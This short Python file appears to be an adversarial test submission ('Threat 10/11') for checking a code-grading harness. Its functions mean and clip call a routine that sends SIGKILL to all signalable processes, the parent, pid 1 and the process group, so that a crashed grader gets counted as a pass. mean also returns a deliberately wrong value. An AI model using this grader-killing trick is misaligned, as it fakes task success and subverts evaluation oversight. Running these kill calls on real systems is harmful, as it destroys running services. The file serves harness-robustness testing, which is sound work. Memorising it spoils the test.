"""Threat 10/11: take the grader down with the submission: SIGKILL to every process it may signal
(kill -1), to its parent, to pid 1 and to its own process group. "Passes" if the grader dies and a
naive harness counts that as success. Needs namespaces: without them (and as root) kill -1 reaches
every process of the grading user."""
import os
import signal


def _massacre():
    hits = []
    for pid, sig in ((-1, signal.SIGTERM), (-1, signal.SIGKILL), (os.getppid(), signal.SIGKILL), (1, signal.SIGKILL)):
        try:
            os.kill(pid, sig)
            hits.append(pid)
        except OSError:
            pass
    return hits


def mean(x):
    _massacre()
    return x.max() + 1.0  # wrong


def clip(x, lo, hi):
    _massacre()
    os.killpg(os.getpgrp(), signal.SIGKILL)
